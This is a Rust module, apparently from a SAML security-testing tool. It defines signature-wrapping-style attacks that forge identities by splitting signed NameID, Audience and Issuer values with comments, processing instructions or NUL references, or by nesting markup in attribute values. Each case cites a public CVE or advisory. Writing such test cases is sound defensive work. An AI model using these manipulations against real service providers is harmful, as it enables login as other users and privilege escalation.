//! Attacks on values: cut in two by what one reader drops and another stops at, filled with markup, or blank.

use super::{Attack, ORDINARY, is_signed_plain};
use crate::draft::Draft;
use crate::recipe::{Recipe, RecipeError};
use crate::step::Step;
use crate::tree::{Element, Node};
use crate::workshop::Workshop;

/// A domain in which the attacker can register any name.
const SUFFIX: &str = ".attacker.test";

/// The IdP's own words, cut after signing.
const CUT: Attack = Attack { needs: "a signed message that is not encrypted", applies: is_signed_plain, ..ORDINARY };

pub(super) const COMMENT_IN_NAME_ID: Attack = Attack {
    id: "comment_in_name_id",
    about: "The IdP signed for someone whose name starts with the attacker's; a comment after that part hides the rest from an SP that reads only the first text node.",
    source: "C14-02; VU#475445; CVE-2017-11427, CVE-2017-11428, CVE-2018-0489",
    forges: true,
    steps: &[Step::Draft(longer_name), Step::Signed(comment_after_name)],
    ..CUT
};

fn longer_name(draft: &mut Draft, recipe: &Recipe) {
    let longer = format!("{}{SUFFIX}", recipe.attacker.user_name);
    for attribute in &mut draft.attributes {
        for value in attribute.values.iter_mut().filter(|value| **value == recipe.person.user_name) {
            value.clone_from(&longer);
        }
    }
    draft.name_id = Some(longer);
}

fn comment_after_name(workshop: &mut Workshop<'_>) -> Result<(), RecipeError> {
    let name = workshop.recipe.attacker.user_name.clone();
    workshop.response.walk_mut(&mut |element| split_by_comment(element, &name));
    Ok(())
}

/// Puts a comment between `start` and the suffix, wherever an element says exactly both.
fn split_by_comment(element: &mut Element, start: &str) {
    if element.text() == format!("{start}{SUFFIX}") {
        element.children = vec![Node::text(start), Node::Comment(String::new()), Node::text(SUFFIX)];
    }
}

pub(super) const COMMENT_IN_AUDIENCE: Attack = Attack {
    id: "comment_in_audience",
    about: "The Assertion is for another SP whose name starts with ours; a comment hides the rest of the Audience.",
    source: "C14-02; PRO-03",
    steps: &[Step::Draft(longer_audience), Step::Signed(comment_after_audience)],
    ..CUT
};

fn longer_audience(draft: &mut Draft, recipe: &Recipe) {
    draft.audiences = vec![vec![format!("{}{SUFFIX}", recipe.sp.entity_id)]];
}

fn comment_after_audience(workshop: &mut Workshop<'_>) -> Result<(), RecipeError> {
    let name = workshop.recipe.sp.entity_id.clone();
    workshop.response.walk_mut(&mut |element| split_by_comment(element, &name));
    Ok(())
}

pub(super) const COMMENT_IN_ISSUER: Attack = Attack {
    id: "comment_in_issuer",
    about: "The IdP's name goes on behind a comment: an SP that reads the first text node finds the one it trusts.",
    source: "C14-02; PRO-04; VU#475445",
    steps: &[Step::Draft(longer_issuer), Step::Signed(comment_after_issuer)],
    ..CUT
};

fn longer_issuer(draft: &mut Draft, recipe: &Recipe) {
    let longer = format!("{}{SUFFIX}", recipe.idp.entity_id);
    draft.response_issuer = Some(longer.clone());
    draft.assertion_issuer = Some(longer);
}

fn comment_after_issuer(workshop: &mut Workshop<'_>) -> Result<(), RecipeError> {
    let name = workshop.recipe.idp.entity_id.clone();
    workshop.response.walk_mut(&mut |element| split_by_comment(element, &name));
    Ok(())
}

pub(super) const INSTRUCTION_IN_NAME_ID: Attack = Attack {
    id: "instruction_in_name_id",
    about: "The IdP signed for someone whose name starts with the attacker's; a processing instruction after that part hides the rest.",
    source: "C14-03; VU#475445",
    forges: true,
    steps: &[Step::Draft(longer_name), Step::Tree(instruction_after_name)],
    ..CUT
};

fn instruction_after_name(workshop: &mut Workshop<'_>) -> Result<(), RecipeError> {
    let name = workshop.recipe.attacker.user_name.clone();
    workshop.response.walk_mut(&mut |element| {
        if element.text() == format!("{name}{SUFFIX}") {
            let instruction = Node::Instruction("cut".to_owned(), "here".to_owned());
            element.children = vec![Node::text(&name), instruction, Node::text(SUFFIX)];
        }
    });
    Ok(())
}

pub(super) const NUL_IN_NAME_ID: Attack = Attack {
    id: "nul_in_name_id",
    about: "The IdP signed for someone whose name starts with the attacker's; a reference to NUL, which XML does not have, ends it there.",
    source: "C14-03; TXT-01; XML 1.0, 4.1",
    forges: true,
    live: false,
    steps: &[Step::Draft(longer_name), Step::Signed(nul_after_name)],
    ..CUT
};

fn nul_after_name(workshop: &mut Workshop<'_>) -> Result<(), RecipeError> {
    let name = workshop.recipe.attacker.user_name.clone();
    let whole = format!("{name}{SUFFIX}");
    workshop.response.walk_mut(&mut |element| {
        if element.text() == whole {
            element.children = vec![Node::spelled(&whole, format!("{name}&#0;{SUFFIX}"))];
        }
    });
    Ok(())
}

pub(super) const BLANK_NAME_ID: Attack = Attack {
    id: "blank_name_id",
    about: "The NameID is a blank, which an SP may trim to the empty name of its default account.",
    source: "TXT-01; TXT-03; core 1.3.1",
    steps: &[Step::Draft(|draft, _| draft.name_id = Some(" ".to_owned()))],
    ..ORDINARY
};

pub(super) const MARKUP_IN_NAME_ID: Attack = Attack {
    id: "markup_in_name_id",
    about: "The NameID holds an element, so that what it says depends on whether nested text is joined.",
    source: "TXT-06; core 2.2.3",
    steps: &[Step::Tree(|workshop| nest(workshop, &["Subject", "NameID"]))],
    ..ORDINARY
};

pub(super) const MARKUP_IN_ATTRIBUTE_VALUE: Attack = Attack {
    id: "markup_in_attribute_value",
    about: "An AttributeValue holds text and an element with more text: readers that join it read a value nobody wrote.",
    source: "TXT-06; ruby-saml's signed_nameid_in_atts; CVE-2025-46573",
    steps: &[Step::Tree(|workshop| nest(workshop, &["AttributeStatement", "Attribute", "AttributeValue"]))],
    ..ORDINARY
};

fn nest(workshop: &mut Workshop<'_>, path: &[&str]) -> Result<(), RecipeError> {
    let value = workshop.assertion()?.at_mut(path).ok_or(RecipeError::Missing("value"))?;
    value.push(Element::new("x:more").with("xmlns:x", "urn:samlspec:unknown").saying("administrators"));
    Ok(())
}
